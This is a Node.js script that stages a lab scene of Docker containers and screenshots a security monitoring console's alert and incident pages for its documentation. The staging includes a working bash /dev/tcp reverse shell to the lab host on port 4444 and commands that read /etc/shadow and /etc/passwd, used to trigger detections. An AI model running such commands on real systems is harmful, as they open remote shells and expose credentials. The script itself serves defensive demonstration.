// SPDX-License-Identifier: Apache-2.0
// node screenshots.mjs [FOLDER]: pictures of the console with the lab's scene, for the READMEs. They go
// to docs/images, or to FOLDER: NAME-LANG-THEME-WIDTH.png. SKEP names the executable.
import { mkdirSync } from 'node:fs';
import path from 'node:path';

import { browser as openBrowser, chromium, firstSignIn, Lab, missing, root, Skep, sleep, until } from './lib.mjs';

const out = path.resolve(process.argv[2] ?? path.join(root, 'docs/images'));
const why = missing() ?? (chromium() ? null : 'no Chromium here');
if (why) {
  console.error(`screenshots: ${why}`);
  process.exit(1);
}
const lab = new Lab();

/** A small shop, and what is done to it. */
async function scene() {
  const run = (name, image, cmd) =>
    lab.docker('run', '-d', '--name', name, '--stop-signal', 'KILL', '--label', 'app=shop', image, 'sh', '-c', cmd);
  // services that do a little, so that their process trees are worth a look
  await run('shop-web', 'lab/tools:1', `cat > /srv/web.py <<'EOF'
import socket
s = socket.create_server(("127.0.0.1", 8080))
while True:
    c, _ = s.accept()
    c.recv(4096)
    c.sendall(b"HTTP/1.0 200 OK\\r\\n\\r\\nhello")
    c.close()
EOF
python3 /srv/web.py & sleep 1; while :; do wget -qO /dev/null http://127.0.0.1:8080/; sleep 4; done`);
  // one that is taken over: what it was asked for becomes a shell with its streams at the attacker's
  await lab.lab('listen', '4444', path.join(lab.dir, 'heard'));
  await run('shop-cart', 'lab/tools:1', `cat > /srv/cart.py <<'EOF'
import subprocess, time
time.sleep(3)
subprocess.Popen(["sh", "-c", "cd /tmp; bash -c 'exec 3<>/dev/tcp/172.17.0.1/4444; timeout 600 sh <&3 >&3 2>&3'; true"])
time.sleep(100000)
EOF
exec python3 /srv/cart.py`);
  await run('shop-db', 'lab/base:1', 'while :; do echo tick >> /var/log/db.log; sleep 3; done');
  await run('shop-mail', 'lab/base:1', 'sleep 100000');
  await sleep(4000);
  await lab.docker('exec', 'shop-web', 'sh', '-c', 'sh -c "id; cat /etc/shadow; cat /etc/passwd" >/dev/null');
  for (const attack of ['shadow', 'drop', 'miner']) await lab.lab('attack', attack);
  await sleep(2500);
}

async function shoot(page, name) {
  await page.mouse.move(0, 0);
  await sleep(1000); // lists load, charts and drawers come in softly
  await page.screenshot({ path: path.join(out, `${name}.png`) });
}

/** All pages in one language, theme and width. */
async function pictures(browser, skep, state, lang, theme, width) {
  const narrow = width < 600;
  const context = await browser.newContext({
    ignoreHTTPSErrors: true, storageState: state, colorScheme: theme,
    locale: lang === 'zh' ? 'zh-CN' : 'en-US',
    viewport: { width, height: narrow ? 844 : 900 }, deviceScaleFactor: narrow ? 2 : 1,
  });
  const page = await context.newPage();
  const suffix = `${lang}-${theme}-${width}`;
  const go = async (where) => {
    await page.goto(skep.url + where);
    await page.getByTestId('lang-switch').waitFor({ timeout: 10000 });
    const shown = (await page.getByTestId('lang-switch').innerText()).includes('EN') ? 'zh' : 'en';
    if (shown !== lang) await page.getByTestId('lang-switch').click();
  };
  await go('/');
  await shoot(page, `overview-${suffix}`);
  const [web] = await skep.list('containers', 'name = shop-web');
  await go(`/containers/${web.id}`);
  await page.getByTestId('process-tree').waitFor({ timeout: 10000 });
  await shoot(page, `container-${suffix}`);
  await go('/alerts');
  await page.getByTestId('alert-row').first().waitFor({ timeout: 10000 });
  await shoot(page, `alerts-${suffix}`);
  const [alert] = await skep.list('alerts', 'container.name = "shop-cart" and priority = critical');
  await go(`/alerts/${alert.id}`);
  await page.getByTestId('alert-ancestry').waitFor({ timeout: 10000 });
  await shoot(page, `alert-${suffix}`);
  await go('/incidents');
  await page.getByTestId('incident-row').first().waitFor({ timeout: 10000 });
  await shoot(page, `incidents-${suffix}`);
  const incident = (await skep.list('incidents')).sort((a, b) => b.risk - a.risk)[0];
  await go(`/incidents/${incident.id}`);
  await page.getByTestId('story').waitFor({ timeout: 10000 });
  await shoot(page, `incident-${suffix}`);
  await go('/attack');
  await page.getByTestId('matrix').waitFor({ timeout: 10000 });
  await shoot(page, `attack-${suffix}`);
  await context.close();
}

mkdirSync(out, { recursive: true });
let skep;
let browser;
try {
  await lab.up();
  await lab.lab('image', 'tools');
  skep = new Skep(lab.socket);
  await skep.start();
  browser = await openBrowser();
  const context = (await firstSignIn(browser, skep)).context();
  const state = await context.storageState();
  await context.close();
  await scene();
  await until(async () => (await skep.list('alerts', 'container.name = "shop-cart" and priority = critical')).length > 0, 10000);
  for (const lang of ['en', 'zh'])
    for (const theme of ['light', 'dark'])
      for (const width of [1440, 390]) await pictures(browser, skep, state, lang, theme, width);
} finally {
  await browser?.close();
  await skep?.stop();
  skep?.remove();
  await lab.down();
}
